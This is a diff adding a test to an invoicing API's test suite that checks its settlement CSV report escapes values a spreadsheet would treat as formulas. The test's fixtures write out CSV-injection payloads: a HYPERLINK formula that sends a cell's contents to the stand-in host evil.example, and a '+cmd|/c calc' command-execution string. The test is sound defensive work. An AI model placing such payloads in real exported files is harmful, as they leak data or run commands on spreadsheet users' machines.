@@ -754,3 +754,21 @@ async def test_a_refunded_part_goes_back_only_as_far_as_the_invoice_still_owes_i
     got = await (await api.client.get(f"/v1/invoices/{inv['id']}", headers=portal)).json()
     assert (got["status"], got["amount_paid"]) == ("paid", 1000)
     assert await _revenue(api.dsn) == 1000
+
+
+async def test_the_csv_report_never_hands_a_spreadsheet_a_formula(api, portal, treasury, invoice_body):
+    """Found by a security review: a file's texts reached treasury's spreadsheet as formulas."""
+    import csv
+    import io
+
+    data = write_settlement_csv([line('=HYPERLINK("http://evil.example/?"&A1,"click")', 5000),
+                                 line("+cmd|/c calc!A1", 6000, bill="@SUM(1+1)"), line("-2+3", 7000),
+                                 line("TX-PLAIN", 8000)])
+    rep = await (await upload(api, treasury, data)).json()
+    r = await api.client.get(f"/v1/settlements/{rep['id']}/report.csv", headers=treasury)
+    rows = list(csv.reader(io.StringIO(await r.text())))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert [row[5] for row in rows if row[3] == "line"] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|/c calc!A1", "'-2+3", "TX-PLAIN"]
+    assert "'@SUM(1+1)" in cells
